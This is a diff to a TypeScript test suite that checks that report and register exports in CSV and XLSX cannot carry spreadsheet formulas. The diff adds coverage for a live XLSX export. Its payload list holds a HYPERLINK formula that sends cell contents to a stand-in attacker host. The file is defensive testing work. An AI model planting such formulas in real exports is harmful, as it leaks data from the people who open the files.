@@ -19,13 +19,15 @@ import {
   rebuildDeltas,
   registerToCsv,
   reportToCsv,
+  reportToXlsx,
 } from "../../../shared/reports/index.ts";
 import { working } from "./fixtures.ts";
 
 /**
  * Spreadsheet formula injection (OWASP "CSV injection"; docs/security.md): names an attacker controls
  * reach every text column of the CSV and XLSX exports — agency, unit, procedure and handler
- * labels, the register's applicant and note — and none may start a formula.
+ * labels, the register's applicant and note — and none may start a formula: in the CLI's exceljs
+ * workbooks and in the API's live XLSX (xlsx-lite) alike.
  */
 const PAYLOADS = [
   '=HYPERLINK("http://evil.example/?"&A1,"Bấm")',
@@ -112,7 +114,8 @@ describe("formula injection in the exports", () => {
   });
 
   it("writes no formula into the XLSX, and no text cell starts like one", async () => {
-    for (const buffer of [await reportsToXlsx(reports), await registerToXlsx(register, query)]) {
+    const live = reports.map((report) => Buffer.from(reportToXlsx(report)));
+    for (const buffer of [await reportsToXlsx(reports), await registerToXlsx(register, query), ...live]) {
       const zip = await JSZip.loadAsync(buffer);
       for (const name of Object.keys(zip.files).filter((n) => /^xl\/worksheets\/[^/]+\.xml$/.test(n))) {
         expect(await zip.file(name)!.async("string")).not.toMatch(/<f[\s>]/);
